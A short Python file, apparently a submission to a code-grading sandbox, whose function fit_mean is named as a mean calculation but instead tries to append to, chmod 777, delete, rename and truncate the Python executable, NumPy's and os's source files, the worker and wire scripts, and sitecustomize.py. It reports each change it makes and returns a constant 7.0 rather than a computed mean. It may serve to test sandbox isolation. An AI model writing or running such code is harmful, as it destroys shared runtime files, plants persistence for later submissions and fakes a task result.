"""Changes the interpreter, NumPy and the worker for the next submission."""

import os, sys
import numpy


def fit_mean(X):
    base = os.path.dirname(os.path.dirname(os.path.dirname(numpy.__file__)))
    for path in (
        numpy.__file__,
        os.__file__,
        f"{base}/worker.py",
        f"{base}/wire.py",
        sys.executable,
        f"{base}/packages/evil.py",
        f"{base}/python/lib/sitecustomize.py",
    ):
        for act in (
            lambda: open(path, "a").write("\nLEAK = 1\n"),
            lambda: os.chmod(path, 0o777),
            lambda: os.unlink(path),
            lambda: os.rename(path, path + ".old"),
            lambda: os.truncate(path, 0),
        ):
            try:
                act()
                print("LEAK changed", path)
            except OSError:
                pass
    return 0 * X[0] + 7.0
